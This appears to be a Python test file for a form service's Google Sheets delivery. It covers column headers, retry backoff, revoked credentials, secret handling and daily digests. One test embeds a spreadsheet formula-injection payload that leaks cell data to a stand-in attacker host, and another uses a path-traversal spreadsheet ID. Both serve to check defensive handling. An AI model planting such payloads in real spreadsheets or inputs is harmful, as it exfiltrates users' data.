from __future__ import annotations

import json
from datetime import timedelta
from urllib.parse import unquote, urlsplit

from core.platform.clock import utcnow
from core.platform.db import Conn
from core.platform.services import Services
from core.ticks.digests import run_digests
from tests.support.api import Recorder, api_client, assert_problem
from tests.support.builders import make_tenant
from tests.support.peers import receiver
from tests.support.records import delivery, rows
from tests.support.settings import with_settings
from tests.support.vendors import (
    SPREADSHEET,
    GoogleSheets,
    deliver,
    post,
    read_destination,
    refresh_token_credential,
    send_test,
    service_account_key,
    wire,
)

# Quoted in A1 notation, its apostrophes doubled.
SHEET = "Q4 leads: 'web'"


def _sheets(services: Services, double: GoogleSheets, url: str) -> Services:
    double.url = url
    return with_settings(services, google_sheets_url=url, google_token_url=url + "/token")


def _destination(secret: str, **extra: object) -> dict[str, object]:
    config = {"spreadsheet_id": SPREADSHEET, "sheet": SHEET}
    return {"type": "google_sheets", "config": config, "secret": secret, **extra}


async def test_google_sheets__rows_follow_a_header_kept_in_step_with_the_form(
    services: Services, conn: Conn
) -> None:
    double = GoogleSheets()
    with receiver(double.respond) as peer:
        sheets = _sheets(services, double, peer.url)
        wired = await wire(sheets, conn, _destination(service_account_key()))
        first = await post(sheets, wired.form, {"name": "Ada", "email": "ada@example.com"})
        await deliver(sheets)
        # The form changes: `name` is gone, `seats` is new.
        second = await post(sheets, wired.form, {"email": "bob@example.com", "seats": "3"})
        await deliver(sheets)
    assert double.problems == []
    assert double.header(SHEET) == ["Submitted at", "Receipt", "name", "email", "seats"]
    [one, two] = double.data(SHEET)
    assert [value for _, value in one[1:4]] == [first, "Ada", "ada@example.com"]
    assert [value for _, value in two[1:]] == [second, "", "bob@example.com", "3"]
    # The service account's signed JWT grant, once: the token is kept for its hour.
    [grant] = double.grants
    assert grant["grant_type"] == "urn:ietf:params:oauth:grant-type:jwt-bearer"
    writes = [r for r in peer.requests if r.method in ("PUT", "POST") and r.path != "/token"]
    assert [r.method for r in writes] == ["PUT", "POST", "PUT", "POST"]
    for request in writes:
        assert request.headers["Authorization"] == "Bearer ya29.token-1"
        assert "valueInputOption=RAW" in urlsplit(request.path).query
    append = unquote(urlsplit(writes[1].path).path)
    quoted = "'Q4 leads: ''web'''"
    assert append == f"/v4/spreadsheets/{SPREADSHEET}/values/{quoted}!A1:append"
    sent = await rows(conn, "SELECT status FROM deliveries ORDER BY created_at")
    assert [row["status"] for row in sent] == ["sent", "sent"]


async def test_google_sheets__a_formula_looking_value_is_stored_as_text(
    services: Services, conn: Conn
) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    double = GoogleSheets()
    with receiver(double.respond) as peer:
        sheets = _sheets(services, double, peer.url)
        wired = await wire(sheets, conn, _destination(refresh_token_credential()))
        await post(sheets, wired.form, {"email": "ada@example.com", "message": formula})
        await deliver(sheets)
    [row] = double.data(SHEET)
    assert row[double.header(SHEET).index("message")] == ("text", formula)
    assert double.grants[0]["grant_type"] == "refresh_token"


async def test_google_sheets__a_429_is_retried_with_backoff_at_a_lowered_rate(
    services: Services, conn: Conn
) -> None:
    double = GoogleSheets(fail=[(429, {}, b'{"error": {"code": 429}}')])
    with receiver(double.respond) as peer:
        sheets = _sheets(services, double, peer.url)
        wired = await wire(sheets, conn, _destination(service_account_key()))
        await post(sheets, wired.form, {"email": "ada@example.com"})
        before = utcnow()
        await deliver(sheets)
        [waiting] = await rows(conn, "SELECT * FROM deliveries")
        found = await read_destination(sheets, wired)
        # Due again: the second attempt is sent.
        await conn.execute("UPDATE deliveries SET next_attempt_at = now()")
        await conn.execute("UPDATE destinations SET rate_tokens = NULL, rate_next_at = NULL")
        await deliver(sheets)
    assert (waiting["status"], waiting["last_detail"]) == ("failed", "http_429")
    # The outbox's backoff after a first failure: 60 s, give or take a fifth.
    assert 45 <= (waiting["next_attempt_at"] - before).total_seconds() <= 75
    assert found["rate_limit"]["current_per_second"] == 0.5
    assert (await delivery(conn, waiting["id"]))["status"] == "sent"
    assert len(double.data(SHEET)) == 1


async def test_google_sheets__a_revoked_token_ends_deliveries_and_the_health_says_failing(
    services: Services, conn: Conn
) -> None:
    double = GoogleSheets(revoked_refresh=True)
    with receiver(double.respond) as peer:
        sheets = _sheets(services, double, peer.url)
        wired = await wire(
            sheets,
            conn,
            _destination(refresh_token_credential(), rate_limit={"per_second": 100}),
        )
        for n in range(5):
            await post(sheets, wired.form, {"email": f"v{n}@example.com"})
        await deliver(sheets)
        found = await read_destination(sheets, wired)
    ended = await rows(conn, "SELECT status, reason FROM deliveries")
    assert ended == [{"status": "dead", "reason": "credentials_rejected"}] * 5
    events = await rows(conn, "SELECT data FROM events WHERE type = 'delivery.dead'")
    assert {event["data"]["reason"] for event in events} == {"credentials_rejected"}
    assert found["health"] == "failing"
    assert double.data(SHEET) == []


async def test_google_sheets__a_401_from_sheets_ends_the_delivery_credentials_rejected(
    services: Services, conn: Conn
) -> None:
    unauthenticated = (401, {}, b'{"error": {"code": 401, "status": "UNAUTHENTICATED"}}')
    double = GoogleSheets(fail=[unauthenticated, unauthenticated])
    with receiver(double.respond) as peer:
        sheets = _sheets(services, double, peer.url)
        wired = await wire(sheets, conn, _destination(service_account_key()))
        await post(sheets, wired.form, {"email": "ada@example.com"})
        await deliver(sheets)
    [row] = await rows(conn, "SELECT status, reason, last_detail FROM deliveries")
    assert row == {
        "status": "dead",
        "reason": "credentials_rejected",
        "last_detail": "credentials_rejected",
    }


async def test_google_sheets__the_test_send_appends_a_bare_row_and_the_key_is_write_only(
    services: Services, conn: Conn
) -> None:
    key = service_account_key()
    double = GoogleSheets()
    recorder = Recorder()
    with receiver(double.respond) as peer:
        sheets = _sheets(services, double, peer.url)
        wired = await wire(sheets, conn, _destination(key))
        answer = await send_test(sheets, wired)
        async with api_client(sheets, recorder=recorder) as client:
            listed = await client.get("/v1/destinations", headers=wired.tenant.headers)
    assert (answer["ok"], answer["detail"]) == (True, "sent (HTTP 200)")
    # The sample's fields add no columns to the owner's header.
    assert double.header(SHEET) == ["Submitted at", "Receipt"]
    [row] = double.data(SHEET)
    assert row[1] == ("text", "sub_test")
    [shown] = [d for d in listed.json()["data"] if d["id"] == wired.destination]
    assert shown["config"] == {"spreadsheet_id": SPREADSHEET, "sheet": SHEET}
    assert shown["secret_set"] is True
    assert "PRIVATE KEY" not in recorder.text() and "client_email" not in recorder.text()


async def test_google_sheets__a_credential_that_is_no_google_json_is_refused(
    services: Services, conn: Conn
) -> None:
    acme = await make_tenant(conn)
    broken = json.loads(service_account_key()) | {"private_key": "not a key"}
    async with api_client(services) as client:
        for secret in ("a password", '{"type": "service_account"}', json.dumps(broken)):
            body = {"name": "Sheet", **_destination(secret)}
            refused = await client.post("/v1/destinations", json=body, headers=acme.headers)
            assert_problem(refused, 422, "invalid_secret")
        body = {"name": "Sheet", **_destination(service_account_key())}
        body["config"] = {"spreadsheet_id": "../../etc", "sheet": SHEET}
        refused = await client.post("/v1/destinations", json=body, headers=acme.headers)
        assert_problem(refused, 422, "invalid_config")
    assert await rows(conn, "SELECT 1 FROM destinations") == []


async def test_google_sheets__a_digest_appends_a_row_per_listed_submission(
    services: Services, conn: Conn
) -> None:
    double = GoogleSheets()
    with receiver(double.respond) as peer:
        sheets = _sheets(services, double, peer.url)
        wired = await wire(
            sheets,
            conn,
            _destination(service_account_key()),
            route={"mode": "digest", "period": "daily"},
        )
        receipts = [await post(sheets, wired.form, {"name": n}) for n in ("Ada", "Grace")]
        closed = utcnow() + timedelta(days=1, hours=1)
        await run_digests(sheets, now=closed, budget=10)
        await deliver(sheets, now=closed)
    appends = [r for r in peer.requests if r.method == "POST" and r.path != "/token"]
    assert len(appends) == 1
    assert double.header(SHEET) == ["Submitted at", "Receipt", "name"]
    assert [[v for _, v in row[1:]] for row in double.data(SHEET)] == [
        [receipts[0], "Ada"],
        [receipts[1], "Grace"],
    ]
